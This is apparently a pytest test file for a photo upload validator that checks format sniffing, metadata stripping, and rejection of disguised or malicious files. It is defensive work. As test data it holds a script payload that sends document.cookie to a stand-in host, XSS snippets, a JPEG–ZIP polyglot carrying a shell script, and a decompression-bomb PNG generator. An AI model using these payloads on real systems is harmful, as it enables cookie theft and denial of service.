"""Photo intake: format from the bytes, limits before decoding, clean re-encoding, refusals."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image

from tonus.vision.intake import AcceptedPhoto, PhotoRejected, _open, accept_photo


def _jpeg(width: int = 400, height: int = 600, **save: object) -> bytes:
    image = Image.new("RGB", (width, height), (30, 60, 200))
    image.paste((220, 20, 20), (0, 0, width, height // 4))  # red band along the top
    buf = io.BytesIO()
    image.save(buf, format="JPEG", quality=90, **save)
    return buf.getvalue()


def _png(width: int = 400, height: int = 400, mode: str = "RGB") -> bytes:
    buf = io.BytesIO()
    Image.new(mode, (width, height), (10, 200, 10, 128) if mode == "RGBA" else 0).save(buf, "PNG")
    return buf.getvalue()


def _chunk(ctype: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(
        ">I", zlib.crc32(ctype + body) & 0xFFFFFFFF)


def _png_bomb(width: int = 10_000, height: int = 5_000) -> bytes:
    """A 1-bit PNG declaring width×height pixels whose zeros compress to a few KB."""
    row = b"\x00" + bytes((width + 7) // 8)
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row) for _ in range(height)) + comp.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


def _rejected(data: bytes, filename: str = "photo.jpg", **limits: int) -> str:
    with pytest.raises(PhotoRejected) as info:
        accept_photo(data, filename=filename, **limits)
    assert info.value.filename == filename
    return str(info.value)


def test_exif_orientation_applied_and_all_metadata_dropped() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to display
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 3.0)})
    original = _jpeg(400, 600, exif=exif.tobytes(), comment=b"client: Jane Doe")
    with Image.open(io.BytesIO(original)) as check:  # the fixture really carries GPS
        assert check.getexif().get_ifd(0x8825)

    photo = accept_photo(original, filename="IMG_0001.JPG")

    assert isinstance(photo, AcceptedPhoto)
    assert (photo.width, photo.height) == (600, 400)  # rotated upright
    assert photo.original_format == "JPEG"
    with Image.open(io.BytesIO(photo.data)) as out:
        assert out.format == "JPEG" and out.size == (600, 400)
        assert not out.getexif()
        assert not {"exif", "icc_profile", "xmp", "comment", "photoshop"} & set(out.info)
        red_column = out.convert("RGB").getpixel((590, 200))  # the top band is now right
        blue_column = out.convert("RGB").getpixel((10, 200))
    assert isinstance(red_column, tuple) and isinstance(blue_column, tuple)
    assert red_column[0] > 150 and red_column[2] < 100
    assert blue_column[2] > 150
    for marker in (b"Exif", b"PhoneMaker", b"Jane Doe", b"ICC_PROFILE", b"http://ns.adobe"):
        assert marker not in photo.data
    assert len(photo.sha256) == 64 and "bytes" in repr(photo) and "\\x" not in repr(photo)


def test_png_named_jpg_is_accepted_as_what_it_is() -> None:
    photo = accept_photo(_png(mode="RGBA"), filename="scan.jpg")
    assert photo.original_format == "PNG"
    with Image.open(io.BytesIO(photo.data)) as out:
        assert out.format == "JPEG" and out.mode == "RGB"


def test_webp_is_accepted() -> None:
    buf = io.BytesIO()
    Image.new("RGB", (500, 400), (90, 90, 90)).save(buf, "WEBP")
    assert accept_photo(buf.getvalue(), filename="a.webp").original_format == "WEBP"


def test_text_is_not_an_image() -> None:
    message = _rejected(b"Client notes: lower back pain since March.\n" * 20, "notes.jpg")
    assert message == "The file is not an image (it looks like a text file)"


def test_pdf_with_image_extension_is_refused() -> None:
    message = _rejected(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n", "x.jpeg")
    assert message == "The file is not an image (it looks like a PDF document)"


def test_html_renamed_png_is_refused() -> None:
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    assert _rejected(html, "photo.png") == \
        "The file is not an image (it looks like an HTML web page)"


def test_zip_renamed_jpg_is_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("payload.txt", "hello")
    assert _rejected(buf.getvalue()) == "The file is not an image (it looks like a ZIP archive)"


def test_jpeg_zip_polyglot_is_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("run.sh", "#!/bin/sh\necho owned\n" * 10)
    message = _rejected(_jpeg() + buf.getvalue())
    assert "hidden data after the end of the image (a ZIP archive)" in message


def test_script_appended_after_image_is_refused() -> None:
    message = _rejected(_jpeg() + b"<script>fetch('https://evil.example/'+document.cookie)"
                        b"</script>" * 3)
    assert "hidden data after the end of the image" in message


def test_script_hidden_in_a_metadata_segment_is_refused() -> None:
    message = _rejected(_jpeg(comment=b"<SCRIPT>alert(document.domain)</SCRIPT>"))
    assert "hides web content" in message


def test_small_padding_after_the_image_is_tolerated() -> None:
    assert accept_photo(_jpeg() + b"\x00" * 16, filename="a.jpg").width == 400


def test_truncated_jpeg_is_refused() -> None:
    data = _jpeg()
    assert _rejected(data[: len(data) * 2 // 3]) == \
        "The image data is incomplete (the file was cut off)"


def test_truncated_png_is_refused() -> None:
    data = _png()
    assert _rejected(data[:-20], "a.png") == "The image data is incomplete (the file was cut off)"


def test_decompression_bomb_refused_from_the_header() -> None:
    bomb = _png_bomb()
    assert len(bomb) < 20_000  # a few KB declaring 50 megapixels
    assert _rejected(bomb, "bomb.png") == "The photo is 50 megapixels; the limit is 40"


def test_pillow_bomb_guard_is_an_error_too() -> None:
    # Defence in depth: Pillow's own limit (set locally) turns its warning into a refusal.
    with pytest.raises(PhotoRejected, match="too many pixels"):
        _open(_png(800, 800), "PNG", max_pixels=500_000)
    assert Image.MAX_IMAGE_PIXELS != 500_000  # restored


def test_oversized_file_is_refused() -> None:
    assert _rejected(b"\xff\xd8\xff" + bytes(25_000_000)) == \
        "The file is 25 MB; the limit is 20 MB"
    assert _rejected(b"\xff\xd8\xff" + bytes(20_000_000)) == \
        "The file is larger than the 20 MB limit"


def test_too_small_photo_is_refused() -> None:
    assert "at least 320 pixels" in _rejected(_jpeg(200, 300))


def test_unaccepted_image_format_is_named() -> None:
    buf = io.BytesIO()
    Image.new("RGB", (400, 400)).save(buf, "GIF")
    assert _rejected(buf.getvalue(), "a.gif") == \
        "The file is a GIF image; only JPEG, PNG or WebP photos are accepted"


def test_empty_file_is_refused() -> None:
    assert _rejected(b"") == "The file is empty"
